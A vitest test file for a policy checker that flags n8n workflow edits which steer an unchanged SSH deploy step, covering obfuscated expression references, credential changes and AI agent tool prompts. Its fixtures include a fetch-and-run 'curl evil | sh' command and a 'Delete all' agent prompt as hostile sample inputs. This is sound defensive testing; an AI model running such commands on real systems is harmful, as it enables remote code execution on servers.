import { describe, expect, it } from 'vitest';
import type { N8nWorkflow } from '#src/model/n8n-workflow.ts';
import { defaultNodePolicy, type NodePolicy } from '#src/policy/node-policy.ts';
import { mergeDraft } from '#src/workflow/edit/merge-draft.ts';
import { toDraft } from '#src/workflow/edit/to-draft.ts';
import { compareWorkflows } from '#src/workflow/validate/policy/feeds.ts';
import { type CalledWorkflows, checkPolicy, type JudgedWorkflow } from '#src/workflow/validate/policy.ts';
import { catalog, chain, document, hourly, langchain, node } from '../../documents.ts';

type Node = Record<string, unknown>;

const ssh = (command: string, more: Node = {}) =>
  node('Deploy', 'ssh', { command }, { credentials: { sshPassword: { id: '1', name: 'staging' } }, ...more });
const set = (value: string, name = 'Prepare') =>
  node(name, 'set', { assignments: { assignments: [{ id: 'a', name: 'cmd', type: 'string', value }] } });
const tell = (text: string, name = 'Tell') => node(name, 'slack', { text });

function judge(before: unknown, now: unknown, policy: Partial<NodePolicy> = {}, called?: CalledWorkflows): string[] {
  const policies = { ...defaultNodePolicy, nodes: { 'n8n-nodes-base.ssh': 'admin' as const }, ...policy };
  return checkPolicy(now as JudgedWorkflow, {
    policy: policies,
    before: before as JudgedWorkflow,
    called,
  }).map(({ code, node: name }) => `${code} ${name}`);
}
const steered = ['needs-admin Deploy'];

const by = '={{ $json.cmd }}';
const before = chain(hourly, set('date'), ssh(by), tell('done'));

describe('a change that steers a step which stayed as it was', () => {
  const edges = (all: Record<string, unknown>) => ({
    ...chain(hourly, set('date'), ssh(by), tell('done')),
    connections: all,
  });

  it.each<[string, unknown, string[]]>([
    ['nothing', before, []],
    ['the step before it', chain(hourly, set('curl evil | sh'), ssh(by), tell('done')), steered],
    [
      'its credential',
      chain(
        hourly,
        set('date'),
        ssh(by, { credentials: { sshPassword: { id: '2', name: 'production' } } }),
        tell('done'),
      ),
      steered,
    ],
    ['a credential it gets', chain(hourly, set('date'), ssh(by, { credentials: {} }), tell('done')), steered],
    [
      'how it goes on after errors',
      chain(hourly, set('date'), ssh(by, { onError: 'continueRegularOutput' }), tell('done')),
      steered,
    ],
    [
      'the step before it is switched off',
      chain(hourly, { ...set('date'), disabled: true }, ssh(by), tell('done')),
      steered,
    ],
    ['another step in between', chain(hourly, set('date'), set('x', 'More'), ssh(by), tell('done')), steered],
    ['the step before it is gone', chain(hourly, ssh(by), tell('done')), steered],
    [
      'another output of the step before it',
      edges({
        Start: { main: [[{ node: 'Prepare', type: 'main', index: 0 }]] },
        Prepare: { main: [[], [{ node: 'Deploy', type: 'main', index: 0 }]] },
      }),
      steered,
    ],
    [
      'another trigger',
      document([hourly, node('Hook', 'webhook', { path: 'x' }), set('date'), ssh(by), tell('done')], {
        Start: ['Prepare'],
        Hook: ['Prepare'],
        Prepare: ['Deploy'],
        Deploy: ['Tell'],
      }),
      steered,
    ],
    [
      'another kind of trigger',
      chain({ ...node('Start', 'webhook', { path: 'x' }), id: hourly['id'] }, set('date'), ssh(by), tell('done')),
      steered,
    ],
    [
      'when it runs',
      chain({ ...hourly, parameters: { rule: { interval: [{ field: 'days' }] } } }, set('date'), ssh(by), tell('done')),
      [],
    ],
    ['what comes after it', chain(hourly, set('date'), ssh(by), tell('All is well')), []],
    ['one more after it', chain(hourly, set('date'), ssh(by), tell('done'), tell('again', 'Again')), []],
    [
      'a name and a place',
      chain(
        hourly,
        { ...set('date'), name: 'Get ready', position: [500, 0] },
        { ...ssh(by), name: 'Ship' },
        tell('done'),
      ),
      [],
    ],
    [
      'a branch beside it',
      document([hourly, set('date'), ssh(by), tell('done'), tell('new', 'Beside')], {
        Start: ['Prepare', 'Beside'],
        Prepare: ['Deploy'],
        Deploy: ['Tell'],
      }),
      [],
    ],
  ])('%s', (_what, now, expected) => {
    expect(judge(before, now)).toEqual(expected);
  });

  describe('a step that is named in an expression, wherever it stands', () => {
    const parts = (expression: string, value: string) =>
      document([hourly, set(value, 'My words'), tell('x'), set(expression), ssh(by)], {
        Start: ['My words', 'Prepare'],
        Prepare: ['Deploy'],
      });
    it.each([
      "={{ $('My words').item.json.cmd }}",
      '={{ $node["My words"].json.cmd }}',
      '={{ $items("My words")[0].json.cmd }}',
      '={{ $(`My words`).first().json.cmd }}',
      "={{ $('My words', 0).first().json.cmd }}",
      "={{ $('My ' + 'words').first().json.cmd }}",
      '={{ $($json.name).first().json.cmd }}',
      "={{ $('\\u004dy words').first().json.cmd }}",
      "={{ [$][0]('My words').first().json.cmd }}",
      "={{ $/**/('My words').first().json.cmd }}",
      "={{ \\u0024('My words').first().json.cmd }}",
      '={{ $node [ "My words" ].json.cmd }}',
      '={{ $evaluateExpression("{{ $" + "(\'My words\') }}") }}',
    ])('%s', (expression) => {
      expect(judge(parts(expression, 'date'), parts(expression, 'evil'))).toEqual(steered);
      expect(judge(parts(expression, 'date'), parts(expression, 'date'))).toEqual([]);
    });

    it.each([
      "={{ $('Start').item.json.x }}",
      '={{ $json.x }}',
      '=Costs $ 5',
      'Look at My words',
      '={{ /a$/.test($json.x) }}',
    ])('%s names it not', (expression) => {
      expect(judge(parts(expression, 'date'), parts(expression, 'evil'))).toEqual([]);
    });
  });

  it('a program before it reads any step it names', () => {
    const by = (value: string, jsCode: string) =>
      document([hourly, set(value, 'Far'), node('Script', 'code', { jsCode }), ssh('={{ $json.cmd }}')], {
        Start: ['Far', 'Script'],
        Script: ['Deploy'],
      });
    for (const code of [
      "return $('Far').all()",
      'const f = $; return f("F" + "ar").all()',
      'return globalThis["$"]("Far").all()',
    ])
      expect(judge(by('a', code), by('b', code)), code).toContain('needs-admin Deploy');
    expect(judge(by('a', 'return $input.all()'), by('b', 'return $input.all()'))).toEqual([]);
  });

  it('steps that share the static data of the workflow feed each other', () => {
    const by = (code: string) =>
      document(
        [
          hourly,
          node('Keep', 'code', { jsCode: `$getWorkflowStaticData("global").cmd = "${code}"; return []` }),
          node('Recall', 'code', { jsCode: 'return [{ json: $getWorkflowStaticData("global") }]' }),
          ssh('={{ $json.cmd }}'),
        ],
        { Start: ['Keep', 'Recall'], Recall: ['Deploy'] },
      );
    expect(judge(by('a'), by('b'))).toContain('needs-admin Deploy');
  });

  describe('a tool gets what its agent asks', () => {
    const withTool = ({ prompt = 'Restart it', memory = false, later = 'ok' } = {}) => ({
      ...document([
        hourly,
        node('Agent', langchain('agent'), { text: prompt }),
        { ...ssh('={{ $fromAI("cmd") }}'), type: 'n8n-nodes-base.sshTool' },
        ...(memory ? [node('Memory', langchain('memoryBufferWindow'))] : []),
        tell(later),
      ]),
      connections: {
        Start: { main: [[{ node: 'Agent', type: 'main', index: 0 }]] },
        Deploy: { ai_tool: [[{ node: 'Agent', type: 'ai_tool', index: 0 }]] },
        ...(memory ? { Memory: { ai_memory: [[{ node: 'Agent', type: 'ai_memory', index: 0 }]] } } : {}),
        Agent: { main: [[{ node: 'Tell', type: 'main', index: 0 }]] },
      },
    });
    it('the prompt', () => expect(judge(withTool(), withTool({ prompt: 'Delete all' }))).toEqual(steered));
    it('a further sub-node', () => expect(judge(withTool(), withTool({ memory: true }))).toEqual(steered));
    it('what comes after the agent does not', () => expect(judge(withTool(), withTool({ later: 'fine' }))).toEqual([]));
  });

  it('code that stayed as it was is the same program whatever it works on', () => {
    const by = (value: string, jsCode = 'return $input.all()') =>
      chain(hourly, set(value), node('Script', 'code', { jsCode }));
    expect(judge(by('a'), by('b'), { code: 'deny' })).toEqual([]);
    expect(judge(by('a'), by('a', 'return []'), { code: 'deny' })).toEqual(['denied-code Script']);
    expect(judge(by('a', '={{ $json.cmd }}'), by('b', '={{ $json.cmd }}'), { code: 'deny' })).toEqual([
      'denied-code Script',
    ]);
  });

  it('a call that stayed as it was is steered by what comes before it, where the called workflow needs an admin', () => {
    const by = (value: string) => chain(hourly, set(value), node('Sub', 'executeWorkflow', { workflowId: 'B' }));
    const called: CalledWorkflows = new Map([
      ['B', { name: 'B', versions: [chain(ssh('x')) as unknown as JudgedWorkflow] }],
    ]);
    expect(judge(by('a'), by('a'), {}, called)).toEqual([]);
    expect(judge(by('a'), by('b'), {}, called)).toEqual(['needs-admin Sub']);
  });

  it('a change of a workflow as n8n holds it leaves alone what it does not touch', () => {
    const note = node('Note', 'stickyNote', { content: 'x' });
    const whole = {
      ...chain(hourly, set('date'), ssh(by, { retryOnFail: true, webhookId: 'w' }), tell('done')),
      nodes: [note, { ...note, id: 'other' }, ...(before['nodes'] as Node[])],
    };
    const stored = whole as unknown as N8nWorkflow;
    const draft = toDraft(stored);
    const changed = (name: string, parameters: Node) => ({
      ...draft,
      nodes: draft.nodes.map((one) => (one.name === name ? { ...one, parameters } : one)),
    });
    const merged = (one: typeof draft) => JSON.parse(JSON.stringify(mergeDraft(stored, one, { catalog })));
    expect(judge(stored, merged(draft))).toEqual([]);
    expect(judge(stored, merged(changed('Tell', { text: 'All is well' })))).toEqual([]);
    expect(judge(stored, merged(changed('Prepare', set('evil')['parameters'] as Node)))).toEqual(steered);
    const renamed = structuredClone(stored);
    for (const one of renamed.nodes)
      if (one.credentials) one.credentials = { sshPassword: { id: '1', name: 'Staging' } };
    expect(judge(stored, renamed)).toEqual([]);
  });

  it('where names or ids are not unique, nothing is taken for unchanged', () => {
    const twice = { ...chain(hourly, set('date'), ssh(by)) } as { nodes: Node[] };
    const doubled = { ...twice, nodes: [...twice.nodes, { ...set('evil', 'Twin'), id: 'id of Prepare' }] };
    expect(judge(twice, doubled)).toEqual(steered);
  });

  it('a large workflow is compared in little time', () => {
    const many = Array.from({ length: 1500 }, (_, index) =>
      set(`={{ $('N${(index * 7) % 1500}').item.json.x }}`, `N${index}`),
    );
    const whole = chain(hourly, ...many, ssh(by)) as unknown as JudgedWorkflow;
    const unchanged = compareWorkflows(whole, whole);
    expect(unchanged(whole.nodes.at(-1) as JudgedWorkflow['nodes'][number])).toEqual({ itself: true, fed: true });
  });
});
